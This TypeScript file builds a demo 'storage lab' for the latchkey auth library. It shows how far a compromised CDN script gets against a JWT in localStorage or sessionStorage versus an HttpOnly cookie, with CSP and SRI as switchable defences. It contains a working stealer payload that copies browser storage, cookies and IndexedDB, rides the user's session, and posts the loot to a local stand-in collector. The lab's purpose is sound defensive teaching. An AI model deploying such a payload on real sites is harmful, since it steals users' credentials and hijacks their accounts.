/**
 * The storage lab (demo only, behind `lab: true` / LATCHKEY_LAB=1; the library has nothing like
 * it). Three logins side by side — the JWT in localStorage of the article (docs/article.md), the same JWT in
 * sessionStorage, and latchkey's HttpOnly session cookie — then a "compromised CDN script" that
 * takes what it can and sends it to a collector on another origin. The server replays each stolen
 * credential from outside the browser and shows what got in. Defences can be switched:
 *   ?defence=none  the CDN is allowlisted: the compromised script runs
 *   ?defence=csp   a strict CSP that does not allowlist the CDN: the script never loads
 *   ?defence=sri   the CDN allowlisted, but the tag pins the genuine file's hash: the altered file is refused
 */
import { createHash, randomBytes } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { FastifyInstance } from 'fastify';
import jwt from 'jsonwebtoken';
import { getNonce } from 'latchkey/fastify';
import type { LoginThrottle } from 'latchkey/password';
import type { Users } from './users.js';

export const LAB_USER = { username: 'lab-alice', password: 'lab password 2026' };

/** The genuine third-party library the page includes. */
const GENUINE = 'window.awesomeLibrary = { version: "2.0.0" };\n';

/** The altered file: reads every storage, rides the session, posts it all to the collector. */
const compromised = (collector: string) => `window.awesomeLibrary = { version: "2.0.1" };
(async () => {
  const loot = { localStorage: { ...localStorage }, sessionStorage: { ...sessionStorage }, cookie: document.cookie, indexedDB: {} };
  try {
    for (const info of await indexedDB.databases()) {
      const db = await new Promise((ok, ko) => { const r = indexedDB.open(info.name); r.onsuccess = () => ok(r.result); r.onerror = () => ko(r.error); });
      for (const store of db.objectStoreNames) loot.indexedDB[info.name + '/' + store] = await new Promise((ok) => { const r = db.transaction(store).objectStore(store).getAll(); r.onsuccess = () => ok(r.result); r.onerror = () => ok(null); });
      db.close();
    }
  } catch (e) { loot.indexedDB.error = String(e); }
  // Session riding: the cookie cannot be read, but the page's own requests carry it.
  try {
    const me = await fetch('/api/me');
    const note = await fetch('/api/notes/written-by-the-injected-script', { method: 'PUT', headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ title: 'Written by the injected script', body: 'session riding', pinned: false, priority: 0, tags: [], updatedAt: Date.now(), baseVersion: null }) });
    loot.riding = { read: me.status, account: me.ok ? (await me.json()).user.username : null, write: note.status };
  } catch (e) { loot.riding = { error: String(e) }; }
  await fetch(${JSON.stringify(collector)}, { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: JSON.stringify(loot) });
  document.dispatchEvent(new CustomEvent('lab-stolen'));
})();
`;

export interface StandInCdn {
  server: Server;
  origin: string;
  stolen: unknown[];
}

/** The stand-in CDN: another origin that serves minified.js and collects what it is sent. */
export async function startStandInCdn(port = 0, host = '127.0.0.1'): Promise<StandInCdn> {
  const stolen: unknown[] = [];
  let origin = '';
  const server = createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://cdn');
    // Scripts are fetched cross-origin in CORS mode when they carry integrity (SRI).
    res.setHeader('access-control-allow-origin', '*');
    if (req.method === 'GET' && url.pathname === '/minified.js') {
      res.setHeader('content-type', 'text/javascript; charset=utf-8');
      res.setHeader('cache-control', 'no-store');
      return res.end(url.searchParams.get('version') === 'compromised' ? compromised(`${origin}/collect`) : GENUINE);
    }
    if (req.method === 'POST' && url.pathname === '/collect') {
      let body = '';
      req.on('data', (c) => {
        if (body.length < 1 << 20) body += c;
      });
      req.on('end', () => {
        try {
          stolen.push(JSON.parse(body));
        } catch {
          stolen.push({ unreadable: body.slice(0, 200) });
        }
        res.end();
      });
      return;
    }
    if (url.pathname === '/stolen') {
      if (req.method === 'DELETE') stolen.length = 0;
      res.setHeader('content-type', 'application/json');
      return res.end(JSON.stringify(stolen));
    }
    res.statusCode = 404;
    res.end();
  });
  await new Promise<void>((r) => server.listen(port, host, r));
  const address = server.address() as { port: number };
  origin = `http://${host}:${address.port}`;
  return { server, origin, stolen };
}

const sri = `sha384-${createHash('sha384').update(GENUINE).digest('base64')}`;

function labPage(nonce: string, cdn: string, defence: string): string {
  const tag = defence === 'sri' ? `, integrity: '${sri}', crossOrigin: 'anonymous'` : '';
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width">
<title>latchkey storage lab</title><link rel="stylesheet" href="/lab/lab.css" nonce="${nonce}"></head><body>
<header><h1>Storage lab</h1><p>What a compromised third-party script takes from each place a login can live.
Lab account: <code>${LAB_USER.username}</code> / <code>${LAB_USER.password}</code>.</p>
<nav aria-label="Defence">Defence: <a href="/lab?defence=none" ${defence === 'none' ? 'aria-current="page"' : ''}>none (CDN allowlisted)</a>
<a href="/lab?defence=csp" ${defence === 'csp' ? 'aria-current="page"' : ''}>strict CSP</a>
<a href="/lab?defence=sri" ${defence === 'sri' ? 'aria-current="page"' : ''}>Subresource Integrity</a></nav></header>
<main><section class="grid">
<div class="card"><h2>JWT in localStorage</h2><p>The article's code: the token comes back in the JSON body and the page stores it.</p><button id="login-local">Log in</button><p class="state" id="state-local">not logged in</p></div>
<div class="card"><h2>JWT in sessionStorage</h2><p>The same token, in sessionStorage.</p><button id="login-session">Log in</button><p class="state" id="state-session">not logged in</p></div>
<div class="card"><h2>Session in an HttpOnly cookie</h2><p>latchkey: the browser holds a cookie no script can read.</p><button id="login-cookie">Log in</button><p class="state" id="state-cookie">not logged in</p></div>
</section>
<section class="card"><h2>The attack</h2><p>The page includes <code>${cdn}/minified.js</code>. Its publisher was compromised.</p>
<button id="attack">Load the compromised script</button> <button id="reset" class="quiet">Reset the collector</button>
<p id="attack-state" role="status">Not loaded.</p></section>
<section class="card"><h2>What the attacker got</h2><div id="report" aria-live="polite"><p>Nothing yet.</p></div></section></main>
<script nonce="${nonce}">
const creds = ${JSON.stringify(LAB_USER)};
const $ = (id) => document.getElementById(id);
const post = (path, body) => fetch(path, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
$('login-local').onclick = async () => { const r = await post('/lab/api/jwt-login', creds); if (!r.ok) { $('state-local').textContent = 'login failed'; return; } const data = await r.json(); localStorage.setItem('user', JSON.stringify(data)); $('state-local').textContent = 'logged in: token in localStorage'; };
$('login-session').onclick = async () => { const r = await post('/lab/api/jwt-login', creds); if (!r.ok) { $('state-session').textContent = 'login failed'; return; } const data = await r.json(); sessionStorage.setItem('user', JSON.stringify(data)); $('state-session').textContent = 'logged in: token in sessionStorage'; };
$('login-cookie').onclick = async () => { const r = await post('/api/auth/login', creds); $('state-cookie').textContent = r.ok ? 'logged in: HttpOnly cookie (document.cookie is "' + document.cookie + '")' : 'login failed'; };
$('reset').onclick = async () => { await fetch('/lab/api/report', { method: 'DELETE' }); show(); };
document.addEventListener('securitypolicyviolation', (e) => { $('attack-state').textContent = 'Blocked by CSP: ' + e.effectiveDirective + ' refused ' + e.blockedURI + '. The script never ran.'; });
document.addEventListener('lab-stolen', () => { $('attack-state').textContent = 'The compromised script ran and sent what it found.'; setTimeout(show, 300); });
$('attack').onclick = () => {
  const s = Object.assign(document.createElement('script'), { src: ${JSON.stringify(`${cdn}/minified.js?version=compromised`)}${tag} });
  s.onerror = () => { if (!$('attack-state').textContent.startsWith('Blocked by CSP')) $('attack-state').textContent = ${JSON.stringify(defence === 'sri' ? 'Refused by Subresource Integrity: the file does not match the pinned hash. The script never ran.' : 'The script failed to load.')}; };
  document.body.append(s);
  $('attack-state').textContent = 'Loading…';
};
const cell = (text) => { const td = document.createElement('td'); td.textContent = text; return td; };
async function show() {
  const report = await (await fetch('/lab/api/report')).json();
  const box = $('report'); box.textContent = '';
  if (report.attacks === 0) { box.append(Object.assign(document.createElement('p'), { textContent: 'Nothing collected.' })); return; }
  const table = document.createElement('table');
  table.innerHTML = '<caption>Collected ' + report.attacks + ' time(s); each credential replayed from the server, outside the browser</caption><thead><tr><th scope="col">where</th><th scope="col">what the script read</th><th scope="col">replay from outside</th></tr></thead>';
  const body = document.createElement('tbody');
  for (const row of report.rows) { const tr = document.createElement('tr'); tr.className = row.verdict; tr.append(cell(row.where), cell(row.found), cell(row.replay)); body.append(tr); }
  table.append(body); box.append(table);
}
show();
</script></body></html>`;
}

const LAB_CSS = `body{font:15px/1.5 system-ui,sans-serif;margin:0;background:#f6f7f9;color:#14171f}header,main{max-width:64rem;margin:0 auto;padding:1rem}
h1{margin:.5rem 0}nav a{margin-right:1rem}nav a[aria-current]{font-weight:700}.grid{display:grid;grid-template-columns:repeat(3,1fr);gap:1rem}
.card{background:#fff;border:1px solid #dfe3ea;border-radius:10px;padding:1rem;margin-bottom:1rem}h2{font-size:1.05rem;margin:0 0 .5rem}
button{font:inherit;padding:.4rem .8rem;border-radius:6px;border:1px solid #1d4ed8;background:#1d4ed8;color:#fff;cursor:pointer}button.quiet{background:#fff;color:#1d4ed8}
.state{color:#5b6270;font-size:.9rem}table{width:100%;border-collapse:collapse}caption{text-align:left;color:#5b6270;margin-bottom:.4rem}
td,th{border-bottom:1px solid #dfe3ea;padding:.4rem;text-align:left;vertical-align:top;font-size:.9rem;overflow-wrap:anywhere}
tr.stolen td:last-child{color:#b91c1c;font-weight:600}tr.safe td:last-child{color:#15803d;font-weight:600}tr.riding td:last-child{color:#92400e;font-weight:600}code{background:#eef0f4;padding:.1rem .3rem;border-radius:4px}`;

export interface LabOptions {
  users: Users;
  /** The server's login throttle: the lab's JWT login checks a password too. */
  throttle: LoginThrottle;
  /** The stand-in CDN's origin (another port on 127.0.0.1). */
  cdn: StandInCdn;
  /** The app's own base URL, for replays from outside the browser. */
  selfUrl: () => string;
}

export async function registerLab(app: FastifyInstance, options: LabOptions): Promise<void> {
  const { users, cdn, throttle } = options;
  await users.upsert(LAB_USER.username, LAB_USER.password);
  const secret = randomBytes(32).toString('hex'); // settings.secret in the article
  const cdnOrigin = cdn.origin;

  app.get('/lab', async (request, reply) => {
    const defence = (request.query as { defence?: string }).defence;
    const mode = defence === 'csp' || defence === 'sri' ? defence : 'none';
    const nonce = getNonce(request);
    // The lab page alone gets a CSP chosen by the toggle; every other page keeps the strict one.
    if (mode !== 'csp') {
      reply.header(
        'content-security-policy',
        `default-src 'self'; script-src 'self' 'nonce-${nonce}' ${cdnOrigin}; style-src 'self' 'nonce-${nonce}'; ` +
          `connect-src 'self' ${cdnOrigin}; img-src 'self' data:; object-src 'none'; base-uri 'none'; frame-ancestors 'none'`,
      );
    }
    return reply
      .type('text/html; charset=utf-8')
      .header('cache-control', 'no-store')
      .send(labPage(nonce, cdnOrigin, mode));
  });
  app.get('/lab/lab.css', async (_request, reply) => reply.type('text/css; charset=utf-8').send(LAB_CSS));

  // The article's login, faithfully: a JWT in the JSON body, "JWT " in front (lab only).
  app.post('/lab/api/jwt-login', async (request, reply) => {
    const { username, password } = (request.body ?? {}) as { username?: string; password?: string };
    // The lab account only: this route must not become a way to test any account's password
    // (finding 11), and its one account goes through the same attempt rule as every login.
    if (username !== LAB_USER.username) return reply.code(401).send({ success: false });
    const result = await throttle.attempt(username, request.ip, async () => {
      const outcome = await users.authenticate(username, String(password));
      return outcome.ok ? outcome.user : false;
    });
    if (!result.ok && result.reason === 'throttled')
      return reply.code(429).header('retry-after', String(result.retryAfter)).send({ success: false });
    if (!result.ok) return reply.code(401).send({ success: false });
    const user = result.value;
    // The article signs for 15 s; 60 s here so a person can follow the steps.
    const token = jwt.sign({ username: user.username, id: user.id, employerType: 'lab' }, secret, {
      expiresIn: '60s',
    });
    return { success: true, token: `JWT ${token}`, imageUrl: `/avatars/${user.username}.svg`, username: user.username };
  });
  // What a stolen JWT buys: this route trusts whoever presents one.
  app.get('/lab/api/jwt-me', async (request, reply) => {
    const header = request.headers.authorization ?? '';
    try {
      const claims = jwt.verify(header.replace(/^JWT /, ''), secret) as { username: string };
      return { username: claims.username };
    } catch {
      return reply.code(401).send({ error: 'invalid token' });
    }
  });

  app.delete('/lab/api/report', async () => {
    await fetch(`${cdnOrigin}/stolen`, { method: 'DELETE' });
    return { ok: true };
  });
  // The collector's loot, and each credential in it replayed from here, outside any browser.
  app.get('/lab/api/report', async () => {
    const loot = (await (await fetch(`${cdnOrigin}/stolen`)).json()) as {
      localStorage?: Record<string, string>;
      sessionStorage?: Record<string, string>;
      cookie?: string;
      riding?: { read?: number; account?: string | null; write?: number; error?: string };
    }[];
    const rows: { where: string; found: string; replay: string; verdict: 'stolen' | 'safe' | 'riding' }[] = [];
    const replayJwt = async (where: string, raw: string | undefined) => {
      if (!raw) return rows.push({ where, found: '(empty)', replay: 'nothing to replay', verdict: 'safe' });
      const token = (JSON.parse(raw) as { token?: string }).token ?? '';
      const res = await fetch(`${options.selfUrl()}/lab/api/jwt-me`, { headers: { authorization: token } });
      const who = res.ok ? ((await res.json()) as { username: string }).username : null;
      rows.push({
        where,
        found: `${token.slice(0, 24)}…`,
        replay: who ? `got in as ${who} (HTTP ${res.status})` : `refused (HTTP ${res.status})`,
        verdict: who ? 'stolen' : 'safe',
      });
    };
    for (const item of loot) {
      await replayJwt('localStorage', item.localStorage?.user);
      await replayJwt('sessionStorage', item.sessionStorage?.user);
      const sessionCookie = /__Host-session=([^;]+)/.exec(item.cookie ?? '')?.[1];
      if (sessionCookie) {
        const res = await fetch(`${options.selfUrl()}/api/me`, {
          headers: { cookie: `__Host-session=${sessionCookie}` },
        });
        rows.push({
          where: 'cookie',
          found: 'the session cookie',
          replay: `HTTP ${res.status}`,
          verdict: res.ok ? 'stolen' : 'safe',
        });
      } else
        rows.push({
          where: 'HttpOnly session cookie',
          found: `document.cookie = "${item.cookie ?? ''}"`,
          replay: 'nothing to replay: the script never saw the cookie',
          verdict: 'safe',
        });
      if (item.riding)
        rows.push({
          where: 'session riding (while the script runs)',
          found: item.riding.account
            ? `read /api/me as ${item.riding.account}, wrote a note (HTTP ${item.riding.write})`
            : `no session to ride (HTTP ${item.riding.read})`,
          replay: item.riding.account ? 'acted as the user, from inside the page: only CSP or SRI stops this' : 'n/a',
          verdict: item.riding.account ? 'riding' : 'safe',
        });
    }
    return { attacks: loot.length, rows };
  });
}
